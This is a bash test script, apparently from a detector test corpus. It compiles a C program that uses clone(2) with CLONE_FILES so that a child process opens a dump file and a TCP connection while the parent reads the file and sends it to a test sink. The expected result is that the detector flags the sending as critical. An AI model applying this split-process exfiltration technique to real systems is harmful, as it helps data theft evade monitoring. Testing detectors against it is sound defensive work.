#!/bin/bash
# B-clone-files: two processes with one table of descriptors: the one opens the dump, the other reads and sends.
# flow: clone(2) with CLONE_FILES and without CLONE_VM; what the child opens the parent has, too.
# tools: gcc
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
gcc -O1 -I"$CORPUS/src" -x c -o table - <<'END' || skip "does not compile here"
#include "net.h"
#include <linux/sched.h>
#include <signal.h>
#include <sys/wait.h>

int main(int argc, char **argv)
{
    static char bytes[48000];
    int status;
    must(argc == 4, "usage");
    int child = syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, NULL);
    must(child >= 0, "clone");
    if (child == 0) {
        must(dup2(open(argv[1], O_RDONLY), 40) == 40 && dup2(dial(argv[2], argv[3]), 41) == 41, "dup2");
        _exit(0);
    }
    waitpid(child, &status, 0);
    ssize_t size;
    while ((size = read(40, bytes, sizeof bytes)) > 0)
        must(write(41, bytes, size) == size, "write");
    return size < 0 || status != 0;
}
END
sink tcp
./table "$D" "$SINK" "$PORT" || fail "table"
sunk
